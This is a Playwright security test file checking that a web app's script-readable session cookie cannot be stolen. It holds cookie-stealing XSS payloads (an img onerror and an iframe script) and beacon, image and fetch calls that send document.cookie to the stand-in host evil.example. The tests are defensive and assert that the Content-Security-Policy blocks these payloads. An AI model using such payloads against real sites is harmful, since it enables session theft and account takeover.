import type { Page } from '@playwright/test';
import { CustomersPage } from './pages/CustomersPage';
import { onboardSellableDevice } from './support/customers';
import { dataServiceUrl, DEMO_AGENT, NEEDS_DATA_SERVICE } from './support/dataService';
import { expect, test as base } from './support/fixtures';
import { TOKEN_COOKIE } from './support/session';

// Issue 28 #4: the session token cookie can be read by scripts, because the spec has the browser send the
// token itself as a bearer header. The design is kept; what makes that safe enough is tested here as attacks
// that fail (docs/security.md, "The session token scripts can read").

const test = base.extend<{ customersPage: CustomersPage }>({
  customersPage: async ({ page }, provide) => provide(new CustomersPage(page)),
});

test.skip(!dataServiceUrl, NEEDS_DATA_SERVICE);

/** Where the attacker wants the cookie to go. */
const ATTACKER = 'evil.example';
/**
 * A customer's address as an attacker would type it at onboarding (200 characters at most): an image whose
 * error handler, and a framed script, send the page's cookies to the attacker.
 */
const STEALING_ADDRESS =
  `<img src=x onerror="fetch('//${ATTACKER}/?'+document.cookie)">` +
  `<iframe srcdoc="<script>parent.fetch('//${ATTACKER}/?'+parent.document.cookie)</script>"></iframe>`;

/**
 * Every request of the page (its frames included) that got past the browser's checks on its way to the
 * attacker's host, answered here so nothing reaches the internet. A request the policy blocks never gets
 * this far.
 */
async function requestsToAttacker(page: Page): Promise<string[]> {
  const arrived: string[] = [];
  await page.route(
    (url) => url.hostname === ATTACKER,
    (route) => {
      arrived.push(route.request().url());
      return route.fulfill({ status: 204 });
    },
  );
  return arrived;
}

test.describe('a script typed into a customer’s address to steal the session', () => {
  test('security #4 (issue 28): is shown as text on the customer’s page, nothing runs and nothing leaves', async ({
    page,
    request,
    demo,
    customersPage,
  }) => {
    expect(STEALING_ADDRESS.length).toBeLessThanOrEqual(200);
    const customer = await onboardSellableDevice(request, demo.token, { address: STEALING_ADDRESS });
    const leaks = await requestsToAttacker(page);

    await customersPage.openCustomer(customer.customerId);
    await expect(customersPage.personal('Address')).toHaveText(STEALING_ADDRESS);
    await page.waitForLoadState('networkidle');

    expect(leaks).toEqual([]);
    expect(await page.locator('iframe').count()).toBe(0);
  });

  test('security #4 (issue 28): drawn as markup by mistake, the Content-Security-Policy stops its scripts and the cookie goes nowhere', async ({
    page,
    request,
    demo,
    customersPage,
    cspViolations,
  }) => {
    const customer = await onboardSellableDevice(request, demo.token, { address: STEALING_ADDRESS });
    const leaks = await requestsToAttacker(page);
    await customersPage.openCustomer(customer.customerId);
    const address = customersPage.personal('Address');
    await expect(address).toHaveText(STEALING_ADDRESS);

    // A rendering bug: the stored address put into the page as HTML (what dangerouslySetInnerHTML would do).
    await address.evaluate((cell) => cell.insertAdjacentHTML('beforeend', cell.textContent ?? ''));

    const refused: string[] = [];
    await expect
      .poll(() => {
        refused.push(...cspViolations.take().map((report) => report.split(' ')[0]));
        return refused;
      })
      .toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem']));
    await page.waitForTimeout(300);
    cspViolations.take();
    expect(leaks).toEqual([]);
  });

  test('security #4 (issue 28): even a script that did run could not send the cookie away by fetch, beacon or image', async ({
    page,
    demo,
    cspViolations,
  }) => {
    void demo; // signed in: the cookie is there to steal
    await page.goto('/account/dashboard');
    const leaks = await requestsToAttacker(page);

    // Run from the test (DevTools' script, which script-src does not stop), standing for a script that got in.
    const fetched = await page.evaluate(async (host) => {
      const loot = encodeURIComponent(document.cookie);
      navigator.sendBeacon(`//${host}/?${loot}`);
      new Image().src = `//${host}/?${loot}`;
      return fetch(`//${host}/?${loot}`, { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      );
    }, ATTACKER);

    expect(fetched).toBe('refused');
    // One refusal each for the beacon and the fetch (connect-src) and the image (img-src).
    const refused: string[] = [];
    await expect
      .poll(() => {
        refused.push(...cspViolations.take().map((report) => report.split(' ')[0]));
        return refused.filter((word) => word.endsWith('-src')).sort();
      })
      .toEqual(['connect-src', 'connect-src', 'img-src']);
    // The browser's console lines about the same refusals may trail the events.
    await page.waitForTimeout(300);
    cspViolations.take();
    expect(leaks).toEqual([]);
  });
});

test('security #4 (issue 28): the token cookie lives exactly as long as the token, Secure and SameSite=Lax', async ({ page, signInPage, context }) => {
  await signInPage.open();
  await signInPage.signIn(DEMO_AGENT.phone, DEMO_AGENT.password);
  await expect(page).toHaveURL(/\/account\/dashboard$/);

  const cookie = (await context.cookies()).find((c) => c.name === TOKEN_COOKIE)!;
  const { exp } = JSON.parse(Buffer.from(cookie.value.split('.')[1], 'base64url').toString('utf8')) as { exp: number };
  // Max-Age is exp − iat (whole seconds), counted from the moment the browser stored it.
  expect(Math.abs(cookie.expires - exp)).toBeLessThanOrEqual(2);
  // Readable by the page's own script, which sends it as the bearer header (the spec): the reason for this spec.
  expect(cookie).toMatchObject({ secure: true, sameSite: 'Lax', httpOnly: false });
});

test('security #4 (issue 28): a copy of the token taken before logging out opens nothing afterwards', async ({
  page,
  baseURL,
  context,
  signInPage,
  accountShell,
  dashboardPage,
}) => {
  await signInPage.open();
  await signInPage.signIn(DEMO_AGENT.phone, DEMO_AGENT.password);
  await dashboardPage.waitForFigures();
  const copied = (await context.cookies()).find((c) => c.name === TOKEN_COOKIE)!.value;

  await accountShell.logOut();
  await expect(page).toHaveURL(/\/auth$/);
  // The sign-in page clears what the last agent left once it has hydrated, which on a busy machine can come
  // after the cookie below is put back: leave it first, so only the copied token is in play.
  await page.goto('about:blank');

  // Whoever copied it puts it back in a browser: the app asks the data service, which refuses it.
  await context.addCookies([{ name: TOKEN_COOKIE, value: copied, url: baseURL! }]);
  await page.goto('/account/dashboard');
  await expect(page).toHaveURL(/\/auth\?ended=1&next=%2Faccount%2Fdashboard$/);
  await expect(signInPage.sessionEndedNotice).toBeVisible();
  await expect(page.getByText('Amaka Okonkwo')).toHaveCount(0);
});
